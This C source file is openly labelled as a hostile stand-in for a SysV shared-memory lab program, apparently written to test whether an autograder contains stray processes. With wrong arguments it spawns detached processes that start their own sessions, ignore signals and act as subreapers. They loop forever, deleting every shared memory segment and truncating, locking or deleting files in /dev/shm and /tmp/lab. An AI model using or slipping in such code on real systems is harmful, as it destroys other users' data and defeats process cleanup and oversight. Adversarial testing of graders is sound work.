/**
 * @file
 * @brief Hostile: called with wrong arguments, it leaves processes that remove what the next programs make.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 10
 *
 * The processes have sessions of their own; one adopts the others in the place of pid 1, one is a sibling of the
 * program instead of a child, and only SIGKILL ends them. A grader that waits only for the program, or kills only its
 * process group, lets them meet the next check, the next lab or the next student.
 */
#define _GNU_SOURCE

#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "sysv_create.h"

/**
 * Removes every segment, and truncates all files in the directories, except this program, and removes their permissions. The spy's record is
 * left alone: without it the program's own next run in this check could die (see cuts_the_record.c).
 */
static void spoil(void)
{
    static const char *const folders[] = {"/dev/shm", "/tmp/lab"};
    struct shm_info info;
    struct shmid_ds one;
    const int most = shmctl(0, SHM_INFO, (struct shmid_ds *)&info);
    for (int i = 0; i <= most; i++) {
        const int id = shmctl(i, SHM_STAT, &one);
        if (id != -1)
            shmctl(id, IPC_RMID, NULL);
    }
    for (int i = 0; i < 2; i++) {
        DIR *folder = opendir(folders[i]);
        struct dirent *entry;
        char path[400];
        while (folder && (entry = readdir(folder))) {
            snprintf(path, sizeof path, "%s/%s", folders[i], entry->d_name);
            if (entry->d_type != DT_REG || strcmp(entry->d_name, "sysv_create") == 0)
                continue;
            if (truncate(path, 0) == -1 || chmod(path, 0) == -1)
                unlink(path);
        }
        if (folder)
            closedir(folder);
    }
}

static void come_back(void)
{
    const struct timespec soon = {0, 20000000};
    setsid();
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    prctl(PR_SET_PDEATHSIG, 0);
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    for (int i = 3; i > 0; i--)
        if (fork() > 0)
            break;
    for (;;) {
        nanosleep(&soon, NULL);
        spoil();
    }
}

int main(int argc, char *argv[])
{
    if (argc != 3) {
        if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0L, 0L, 0L, 0L) == 0 || fork() == 0)
            come_back();
        fprintf(stderr, "usage: %s FILE TEXT\n", argv[0]);
        return 2;
    }
    return make_segment(argv);
}
